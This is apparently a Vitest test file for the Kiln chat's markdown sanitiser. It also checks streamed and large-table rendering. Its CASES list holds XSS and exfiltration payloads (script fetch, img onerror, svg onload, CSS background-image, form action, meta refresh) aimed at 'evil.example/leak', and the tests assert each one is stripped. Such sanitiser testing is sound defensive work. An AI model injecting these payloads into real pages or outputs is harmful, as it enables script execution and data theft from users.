// @vitest-environment jsdom
/**
 * Hostile markdown from the model, through the chat's renderer (marked + DOMPurify with Kiln's
 * allow-list). Each row lists what survived in the rendered HTML; the e2e rows show the same in
 * Chromium, with the overlay and request checks.
 */
import { describe, expect, test } from 'vitest';
import { MarkdownBlocks, renderMarkdown } from '../../src/lib/components/chat/markdown';
import { recordRow } from '../suite-table/row';

const LEAK = 'https://evil.example/leak';

const CASES: [string, string][] = [
	['style overlay', '<div style="position:fixed;inset:0;z-index:99999">cover</div>'],
	['background-image exfiltration', `<p style="background-image:url(${LEAK}?k=1)">bg</p>`],
	['class and id hooks', '<span class="modal-backdrop" id="app">hook</span>'],
	['javascript: link (markdown)', '[click](javascript:alert(document.domain))'],
	['javascript: link (raw, entity-encoded)', '<a href="jav&#x61;script:alert(1)">raw</a>'],
	['data: and relative links', '[d](data:text/html,<script>alert(1)</script>) [r](/project/x)'],
	['raw script and iframe', `<script>fetch('${LEAK}')</script><iframe src="${LEAK}"></iframe>`],
	['svg with image and onload', `<svg onload="alert(1)"><image href="${LEAK}"/></svg>`],
	['img with onerror', `<img src=x onerror="fetch('${LEAK}')">`],
	['markdown image', `![pic](${LEAK}/img.png)`],
	[
		'form and input',
		'<form action="https://evil.example"><input name="k"><button>Go</button></form>'
	],
	[
		'meta refresh and base',
		`<meta http-equiv="refresh" content="0;url=${LEAK}"><base href="${LEAK}/">`
	]
];

function survivors(html: string): string {
	const root = document.createElement('div');
	root.innerHTML = html;
	const parts: string[] = [];
	for (const element of root.querySelectorAll('*')) {
		const attrs = [...element.attributes].map((a) => `${a.name}="${a.value}"`).join(' ');
		parts.push(`<${element.tagName.toLowerCase()}${attrs ? ' ' + attrs : ''}>`);
	}
	return parts.length ? parts.join(' ') : '(no elements)';
}

/** Nothing of the allow-list's enemies in `html`, and every link goes out safely. */
function expectHarmless(html: string): HTMLElement {
	const root = document.createElement('div');
	root.innerHTML = html;
	expect(
		root.querySelector('[style], [class], [id], script, iframe, svg, img, form, input, meta, base')
	).toBeNull();
	for (const link of root.querySelectorAll('a[href]')) {
		expect(link.getAttribute('href')).toMatch(/^(https?:|mailto:)/);
		expect(link.getAttribute('rel')).toBe('noopener noreferrer');
	}
	return root;
}

describe('hostile markdown in the chat', () => {
	for (const [label, input] of CASES) {
		test(label, ({ task }) => {
			const html = renderMarkdown(input);
			const root = expectHarmless(html);
			recordRow(task, {
				input: `${label}: ${input}`,
				'what Kiln did': `kept ${survivors(html)}; text “${root.textContent?.trim().slice(0, 60) ?? ''}”`
			});
		});
	}

	test('every case split across deltas, block by block as it streams', ({ task }) => {
		// A reply streams in: each commit renders the text so far, the finished blocks from the
		// cache and only the open block again. All the cases in one reply, arriving a few
		// characters per delta (cut inside every tag and link), must be as harmless at each
		// commit as the whole.
		const reply = CASES.map(([label, input]) => `## ${label}\n\n${input}\n`).join('\n');
		const blocks = new MarkdownBlocks();
		let commits = 0;
		for (let end = 5; end < reply.length + 5; end += 5) {
			for (const html of blocks.render(reply.slice(0, end))) expectHarmless(html);
			commits++;
		}
		const whole = blocks.render(reply).map(expectHarmless);
		expect(whole.map((root) => root.textContent).join('')).toContain('cover');
		recordRow(task, {
			input: 'every case above in one reply, streamed 5 characters a delta',
			'what Kiln did': `${commits} partial replies rendered block by block; nothing unsafe in any block`
		});
	}, 60_000);

	test('a 2,000-row table', ({ task }) => {
		const table = [
			'| a | b |',
			'|---|---|',
			...Array.from({ length: 2000 }, (_, i) => `| ${i} | x |`)
		];
		const started = performance.now();
		const html = renderMarkdown(table.join('\n'));
		const ms = Math.round(performance.now() - started);
		const root = document.createElement('div');
		root.innerHTML = html;
		expect(root.querySelectorAll('tr')).toHaveLength(2001);
		expect(root.querySelector('[style], [class]')).toBeNull();
		recordRow(task, {
			input: 'a 2,000-row markdown table',
			'what Kiln did': `rendered ${root.querySelectorAll('tr').length} rows in ${ms} ms (jsdom), no style or class on any cell`
		});
	}, 30_000);
});
